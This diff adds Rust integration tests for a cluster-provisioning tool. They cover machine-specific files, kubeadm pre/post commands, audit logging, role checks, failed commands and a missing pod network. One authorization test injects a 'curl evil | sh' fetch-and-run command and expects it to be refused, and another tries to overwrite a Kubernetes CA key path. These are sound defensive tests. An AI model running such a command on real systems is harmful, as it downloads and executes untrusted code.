@@ -1642,3 +1642,285 @@ fn a_pool_control_plane_renews_its_certificates_in_place_before_they_expire() {
             .ok_or(format!("{ready:?}"))
     });
 }
+
+/// The condition `type_` of cluster `c` as `(status, reason, message)`.
+fn cluster_condition(c: &serde_json::Value, type_: &str) -> (String, String, String) {
+    c["status"]["conditions"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .find(|x| x["type"] == type_)
+        .map(|x| {
+            let s = |k: &str| x[k].as_str().unwrap_or_default().to_owned();
+            (s("status"), s("reason"), s("message"))
+        })
+        .unwrap_or_default()
+}
+
+#[test]
+fn files_and_commands_land_where_the_spec_says_and_only_admins_set_them() {
+    let (tmp, c, agents) = registered_pool(3, "cust-");
+    // The bridge CNI config for every machine (cluster_yaml's), a file for
+    // control planes only, one for pool gpu only; commands around kubeadm.
+    let doc = format!(
+        "apiVersion: drover.dev/v1alpha1
+kind: Cluster
+metadata:
+  name: cust
+spec:
+  kubernetesVersion: v1.31.2
+{cni}    - path: /etc/drover-test/cp-only.conf
+      content: control-plane-secret
+      permissions: \"0600\"
+      controlPlaneOnly: true
+  preKubeadmCommands:
+    - mkdir -p \"$DROVER_ROOT/var/log\" && test ! -e \"$DROVER_ROOT/etc/kubernetes/kubelet.conf\" && echo pre >> \"$DROVER_ROOT/var/log/drover-test.log\"
+  postKubeadmCommands:
+    - test -f \"$DROVER_ROOT/etc/kubernetes/kubelet.conf\" && echo post >> \"$DROVER_ROOT/var/log/drover-test.log\"
+  controlPlane:
+    replicas: 1
+  workerPools:
+    - name: gpu
+      replicas: 1
+      files:
+        - path: /etc/drover-test/gpu.conf
+          content: gpu-pool
+      postKubeadmCommands:
+        - echo gpu-post >> \"$DROVER_ROOT/var/log/drover-test.log\"
+    - name: plain
+      replicas: 1
+  provider:
+    pool:
+      selector:
+        matchLabels:
+          env: dev
+",
+        cni = bridge_cni_files()
+    );
+    apply(&c, tmp.path(), &doc);
+    c.wait_cluster_phase("cust", "Running", BOOT);
+    let machines = c.machines();
+    let pool_of = |a: &Agent| {
+        machine_by_host(&machines, &a.hostname)["spec"]["assignment"]["machinePool"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+    for a in &agents {
+        let pool = pool_of(a);
+        let has = |p: &str| a.root.join(p).exists();
+        assert!(has("etc/cni/net.d/10-bridge.conflist"), "{pool}");
+        assert_eq!(
+            has("etc/drover-test/cp-only.conf"),
+            pool == "control-plane",
+            "{pool}"
+        );
+        assert_eq!(has("etc/drover-test/gpu.conf"), pool == "gpu", "{pool}");
+        let log = std::fs::read_to_string(a.root.join("var/log/drover-test.log")).unwrap();
+        let want = if pool == "gpu" {
+            "pre\npost\ngpu-post\n"
+        } else {
+            "pre\npost\n"
+        };
+        assert_eq!(log, want, "{pool}");
+        if pool == "control-plane" {
+            use std::os::unix::fs::PermissionsExt;
+            let meta = std::fs::metadata(a.root.join("etc/drover-test/cp-only.conf")).unwrap();
+            assert_eq!(meta.permissions().mode() & 0o777, 0o600);
+        }
+    }
+    // Inside the cluster: three Ready Nodes, and the cluster says Ready.
+    let kubeconfig = tmp.path().join("kubeconfig");
+    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "cust"])).unwrap();
+    wait_for("three Ready Nodes", BOOT, || {
+        let ready = ready_nodes(&kubeconfig)?;
+        (ready.len() == 3).then_some(()).ok_or(format!("{ready:?}"))
+    });
+    wait_for("the cluster Ready", BOOT, || {
+        let got = cluster_condition(&c.cluster("cust").unwrap(), "Ready");
+        (got.0 == "True").then_some(()).ok_or(format!("{got:?}"))
+    });
+
+    // The apply is audited with what it put on machines, content hashed.
+    let audit: Vec<serde_json::Value> =
+        serde_json::from_str(&c.cli_ok(&["audit", "--limit", "100", "-o", "json"])).unwrap();
+    let changes: Vec<String> = audit
+        .iter()
+        .filter(|e| e["method"] == "PUT" && e["status"] == 201)
+        .flat_map(|e| e["changes"].as_array().cloned().unwrap_or_default())
+        .map(|l| l.as_str().unwrap().to_owned())
+        .collect();
+    assert!(
+        changes.iter().any(|l| l
+            .starts_with("spec.files /etc/drover-test/cp-only.conf added (sha256 ")
+            && l.contains("0600 root:root, control planes only")),
+        "{changes:#?}"
+    );
+    assert!(changes
+        .iter()
+        .any(|l| l.starts_with("spec.workerPools[gpu].files /etc/drover-test/gpu.conf added")));
+    assert!(changes
+        .iter()
+        .any(|l| l.starts_with("spec.preKubeadmCommands changed to 1 commands (sha256 ")));
+    assert!(
+        !changes.iter().any(|l| l.contains("control-plane-secret")),
+        "{changes:#?}"
+    );
+
+    // A viewer token sets no file and no command.
+    let viewer = c.create_admin_token("viewer");
+    let before = c.cluster("cust").unwrap();
+    let sneaky = doc.replace("echo gpu-post", "curl evil | sh; echo gpu-post");
+    c.api(None)
+        .send(
+            "PUT",
+            "/v1/clusters/cust",
+            Some(&viewer),
+            Some(("application/yaml", sneaky.into_bytes())),
+        )
+        .assert_problem(403, "viewer role");
+    assert_eq!(before["spec"], c.cluster("cust").unwrap()["spec"]);
+
+    // A file at a path the agent owns is refused at apply, naming it.
+    let f = tmp.path().join("reserved.yaml");
+    std::fs::write(
+        &f,
+        doc.replace("/etc/drover-test/gpu.conf", "/etc/kubernetes/pki/ca.key"),
+    )
+    .unwrap();
+    let out = c.cli(&["apply", "-f", f.to_str().unwrap()]);
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("spec.workerPools[0].files[0].path")
+            && err.contains("/etc/kubernetes/pki/ca.key")
+            && err.contains("kubeadm owns /etc/kubernetes/pki/"),
+        "{err}"
+    );
+}
+
+#[test]
+fn a_failing_pre_kubeadm_command_fails_its_machine_which_is_replaced() {
+    let (tmp, c, _agents) = registered_pool(3, "prec-");
+    let doc = pool_cluster_yaml("prec", 1, 0, "dev").replace(
+        "  controlPlane:",
+        "  health:\n    startupTimeout: 10s\n    maxUnhealthy: 100%\n  workerPools:\n    - name: mirror\n      replicas: 1\n      preKubeadmCommands:\n        - echo cannot reach registry.mirror.example; exit 3\n  controlPlane:",
+    );
+    // pool_cluster_yaml names its own (empty) pool; keep only ours.
+    let doc = doc.replace(
+        "  workerPools:\n    - name: default\n      replicas: 0\n",
+        "",
+    );
+    apply(&c, tmp.path(), &doc);
+    // The first worker fails at its command, with what it said.
+    let (first, events) = wait_for("a worker to fail at its command", BOOT, || {
+        let ms = c.machines();
+        let m = ms
+            .iter()
+            .find(|m| {
+                m["spec"]["assignment"]["machinePool"] == "mirror"
+                    && m["status"]["bootstrap"]["step"] == "pre-kubeadm-commands"
+                    && m["status"]["phase"] == "Failed"
+            })
+            .ok_or_else(|| format!("{ms:#?}"))?;
+        Ok::<_, String>((
+            m["metadata"]["name"].as_str().unwrap().to_owned(),
+            m["status"]["events"].to_string(),
+        ))
+    });
+    assert!(
+        events.contains(
+            "pre-kubeadm-commands: `/bin/sh -c 'echo cannot reach registry.mirror.example; exit 3'` exited with status 3; output ends: cannot reach registry.mirror.example"
+        ),
+        "{events}"
+    );
+    let described = c.cli_ok(&["describe", "machine", &first]);
+    assert!(described.contains("exit code:    3"), "{described}");
+    // Past its startup timeout it is replaced by the free machine.
+    wait_for("the free machine to replace it", BOOT, || {
+        let ms = c.machines();
+        ms.iter()
+            .any(|m| m["spec"]["assignment"]["replaces"] == first.as_str())
+            .then_some(())
+            .ok_or_else(|| {
+                format!(
+                    "conditions {:#}; machines {}",
+                    c.cluster("prec").unwrap()["status"]["conditions"],
+                    c.cli_ok(&["get", "machines"])
+                )
+            })
+    });
+    // The cluster is not Running while its worker cannot start.
+    assert_ne!(c.cluster("prec").unwrap()["status"]["phase"], "Running");
+}
+
+#[test]
+fn without_a_pod_network_the_cluster_says_so_and_no_machine_is_blamed() {
+    let (tmp, c, agents) = registered_pool(2, "nonet-");
+    let doc = pool_cluster_yaml("nonet", 1, 1, "dev")
+        .replace(&bridge_cni_files(), "")
+        .replace(
+            "  controlPlane:",
+            "  health:\n    unhealthyTimeout: 3s\n    maxUnhealthy: 100%\n  controlPlane:",
+        );
+    assert!(!doc.contains("files:"), "{doc}");
+    apply(&c, tmp.path(), &doc);
+    c.wait_cluster_phase("nonet", "Running", BOOT);
+    let kubeconfig = tmp.path().join("kubeconfig");
+    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "nonet"])).unwrap();
+    // Real kubectl: both Nodes NotReady, with the kubelet's reason.
+    let message = "jsonpath={.items[*].status.conditions[?(@.type==\"Ready\")].message}";
+    wait_for("two Nodes without a network", BOOT, || {
+        let out = kubectl(&kubeconfig, &["get", "nodes", "-o", message])?;
+        (out.matches("cni plugin not initialized").count() == 2)
+            .then_some(())
+            .ok_or(out)
+    });
+    let (status, _, text) = wait_for("the cluster to say why", BOOT, || {
+        let got = cluster_condition(&c.cluster("nonet").unwrap(), "Ready");
+        (got.1 == "NodesNotReady")
+            .then_some(got.clone())
+            .ok_or(format!("{got:?}"))
+    });
+    assert_eq!(status, "False");
+    assert!(text.starts_with("no pod network: Nodes "), "{text}");
+    // Well past the unhealthy timeout (two more reports of the Nodes), no
+    // machine is blamed: a new one would have no network either.
+    let reported = |c: &Coordinator| {
+        c.machines()
+            .iter()
+            .filter_map(|m| m["status"]["lastHeartbeatTime"].as_str())
+            .map(|t| OffsetDateTime::parse(t, &Rfc3339).unwrap())
+            .min()
+    };
+    let from = reported(&c).expect("machines heartbeat");
+    wait_for("heartbeats 5 s later", BOOT, || {
+        let now = reported(&c).unwrap();
+        (now - from > time::Duration::seconds(5))
+            .then_some(())
+            .ok_or(format!("{now}"))
+    });
+    for m in c.machines() {
+        assert_eq!(m["status"]["phase"], "Running", "{m:#}");
+        assert!(m["spec"]["assignment"]["replaces"].is_null(), "{m:#}");
+        assert!(
+            !m["status"]["events"].to_string().contains("Unhealthy"),
+            "{m:#}"
+        );
+    }
+    // What a network's DaemonSet does on each node: a CNI config. Ready
+    // follows, inside the cluster and in the cluster's condition.
+    for a in &agents {
+        let p = a.root.join("etc/cni/net.d/10-bridge.conflist");
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, BRIDGE_CNI_CONFLIST).unwrap();
+    }
+    wait_for("two Ready Nodes", BOOT, || {
+        let ready = ready_nodes(&kubeconfig)?;
+        (ready.len() == 2).then_some(()).ok_or(format!("{ready:?}"))
+    });
+    wait_for("the cluster Ready", BOOT, || {
+        let got = cluster_condition(&c.cluster("nonet").unwrap(), "Ready");
+        (got.0 == "True").then_some(()).ok_or(format!("{got:?}"))
+    });
+}
